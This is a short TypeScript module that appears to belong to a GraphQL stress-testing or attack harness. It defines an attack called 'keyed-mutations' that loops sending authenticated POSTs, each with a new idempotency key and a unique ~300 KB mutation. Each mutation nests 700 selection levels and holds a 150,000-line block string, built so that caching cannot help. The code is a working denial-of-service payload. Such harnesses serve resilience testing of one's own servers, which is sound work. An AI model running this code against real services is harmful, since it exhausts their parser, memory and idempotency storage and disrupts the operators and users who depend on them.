import { randomUUID } from 'node:crypto';
import type { Attack } from './attack.ts';
import { sendPost } from './send-post.ts';

const LINES = 150_000;
const LEVELS = 700;

/** Documents of 300 KB with an `Idempotency-Key`: a block string of 150,000 lines below 700 nested selections. */
export const keyedMutations: Attack = {
  name: 'keyed-mutations',
  point: 1,
  async run(target, signal) {
    const headers = { authorization: `Bearer ${target.userToken}` };
    while (!signal.aborted) {
      const body = JSON.stringify({ query: documentOf(randomUUID()) });
      await sendPost(target, body, { headers: { ...headers, 'idempotency-key': randomUUID() }, signal });
    }
  },
};

/** Each document is another one, so that no cache helps. */
function documentOf(nonce: string): string {
  const block = `"""${nonce}${'\n'.repeat(LINES)}"""`;
  return `mutation { createPost${' { a'.repeat(LEVELS)}(b: ${block})${' }'.repeat(LEVELS)} }`;
}
